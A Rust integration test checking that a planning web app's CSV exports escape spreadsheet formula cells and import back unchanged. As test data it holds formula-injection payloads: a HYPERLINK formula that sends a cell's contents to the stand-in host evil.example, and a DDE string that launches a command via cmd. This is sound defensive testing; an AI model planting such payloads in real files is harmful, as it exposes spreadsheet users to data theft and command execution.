//! CSV exports cannot be turned against their readers: a cell a spreadsheet would run as
//! a formula opens as text.

use reqwest::StatusCode;
use serde_json::json;

use crate::support::{Session, TestApp};

/// Every cell of a CSV document, parsed as a spreadsheet would read the file.
fn cells(bytes: &[u8]) -> Vec<String> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(bytes)
        .records()
        .flat_map(|r| {
            r.expect("a CSV record")
                .iter()
                .map(str::to_string)
                .collect::<Vec<_>>()
        })
        .collect()
}

/// No cell a spreadsheet would run as a formula: text starting `=`, `+`, `-`, `@`, tab or
/// CR (a plain number like `-5` is fine).
fn assert_formula_safe(path: &str, bytes: &[u8]) {
    for cell in cells(bytes) {
        let risky = cell
            .chars()
            .next()
            .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
        assert!(
            !risky || cell.trim().parse::<f64>().is_ok(),
            "{path}: a live formula cell {cell:?}"
        );
    }
}

async fn csv_of(s: &Session, path: &str) -> Vec<u8> {
    let r = s.get(path).await;
    assert_eq!(r.status(), StatusCode::OK, "{path}");
    r.bytes().await.expect("body").to_vec()
}

#[tokio::test]
async fn csv_exports_neutralise_formula_cells_and_import_back_as_they_were() {
    let app = TestApp::spawn().await;
    let coordinator = app.login("coordinator").await;
    let admin = app.login("admin").await;
    let evil_title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm vào đây\")";
    let evil_group = "@SUM(1+1)*cmd|' /C calc'!A0";
    let evil_unit = "+Phường =1+1";
    // The demo's plan of this year, whose tasks the open data counts.
    let (_, plans) = coordinator.get_json("/api/v1/plans").await;
    let plan = plans["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["year"] == 2026)
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    let (_, groups) = coordinator
        .get_json(&format!("/api/v1/plans/{plan}/groups"))
        .await;
    let first = &groups["items"][0];
    let group = first["id"].as_i64().unwrap();
    let (status, body) = coordinator
        .patch_json(
            &format!("/api/v1/groups/{group}"),
            &json!({"code": first["code"], "name": evil_group, "pillar_code": first["pillar_code"]}),
        )
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (status, body) = admin
        .patch_json("/api/v1/units/21550", &json!({"name": evil_unit}))
        .await;
    assert_eq!(status, StatusCode::OK, "{body}");
    let (status, task) = coordinator
        .post_json(
            &format!("/api/v1/plans/{plan}/tasks"),
            &json!({"code": "99.1", "title": evil_title, "group_id": group, "lead_unit_code": "21550",
                "due_date": "2026-09-30", "deliverable": "-cmd"}),
        )
        .await;
    assert_eq!(status, StatusCode::CREATED, "{task}");
    // The API keeps the title as the text it is.
    assert_eq!(task["title"], evil_title);

    for path in [
        format!("/tasks.csv?plan={plan}"),
        format!("/api/v1/tasks.csv?plan={plan}"),
        "/units.csv".to_string(),
        "/open/datasets/plan-progress.csv".to_string(),
        "/open/datasets/indicator-values.csv".to_string(),
        "/open/datasets/index-results.csv".to_string(),
        "/api/v1/data-values/export?period=2025".to_string(),
    ] {
        let bytes = csv_of(&coordinator, &path).await;
        assert_formula_safe(&path, &bytes);
    }
    let tasks = cells(&csv_of(&coordinator, &format!("/tasks.csv?plan={plan}")).await);
    assert!(tasks.contains(&format!("'{evil_title}")), "{tasks:?}");
    assert!(tasks.contains(&"'-cmd".to_string()));
    let units = csv_of(&admin, "/units.csv").await;
    assert!(cells(&units).contains(&format!("'{evil_unit}")));
    let progress = cells(&csv_of(&coordinator, "/open/datasets/plan-progress.csv").await);
    assert!(
        progress.iter().any(|c| c.starts_with("'@SUM")),
        "{progress:?}"
    );

    // The units export imports back as it was: the name keeps no quote.
    let r = admin
        .client
        .post(admin.url("/api/v1/units/import"))
        .header("x-csrf-token", &admin.csrf)
        .header("content-type", "text/csv")
        .body(units)
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let (_, unit) = admin.get_json("/api/v1/units/21550").await;
    assert_eq!(unit["name"], evil_unit);
}
